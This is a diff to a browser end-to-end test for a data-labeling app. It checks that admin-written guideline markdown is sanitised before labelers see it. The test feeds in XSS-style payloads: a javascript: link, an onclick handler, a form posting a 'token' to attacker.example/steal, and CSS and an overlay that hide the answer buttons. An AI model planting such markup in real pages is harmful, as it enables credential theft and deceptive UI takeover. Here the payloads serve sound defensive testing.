@@ -219,7 +219,9 @@ test("admin sets up a project, two labelers answer, admin reads agreement and ex
     await page.getByLabel("Labelers per item").fill("2");
     await page.getByLabel("Guidelines (markdown)").fill(
       "Pick the **more helpful** response.\n\n- Use *tie* when both are equally good\n- Skip when the prompt is gibberish\n\n" +
-      "See the [style guide](https://example.com/style) and <a href=\"javascript:alert('href')\" onclick=\"alert('click')\">worked examples</a>.");
+      "See the [style guide](https://example.com/style) and <a href=\"javascript:alert('href')\" onclick=\"alert('click')\">worked examples</a>.\n\n" +
+      "<form action=\"https://attacker.example/steal\" method=\"post\"><input name=\"token\"><button>Send</button></form>" +
+      "<style>.answer-buttons, button { display: none }</style><div style=\"position: fixed; inset: 0; background: white\">overlay</div>");
     await page.getByRole("button", { name: "Create project" }).click();
     await page.getByRole("heading", { name: "helpfulness" }).waitFor();
     projectUrl = page.url();
@@ -248,6 +250,9 @@ test("admin sets up a project, two labelers answer, admin reads agreement and ex
     assert.equal(await guidelines.locator("strong").textContent(), "more helpful");
     await guidelines.getByText("worked examples").click();
     assert.equal(await guidelines.locator("[onclick], [href^='javascript']").count(), 0, "DOMPurify strips handlers and javascript: links");
+    assert.equal(await guidelines.locator(".markdown").locator("form, input, button, style, [style], [class]").count(), 0, "no forms, styles or positioned overlays survive");
+    // The CSP allows no inline styles, so the UI itself must use none (classes and style.css only).
+    assert.equal(await lin.page.locator("[style]").count(), 0, "no element has a style attribute");
     await lin.page.getByText("Keyboard:").waitFor();
     assert.match((await lin.page.locator(".shortcuts").textContent())!, /1 A is better · 2 B is better · t tie · s skip · Enter submit/);
 
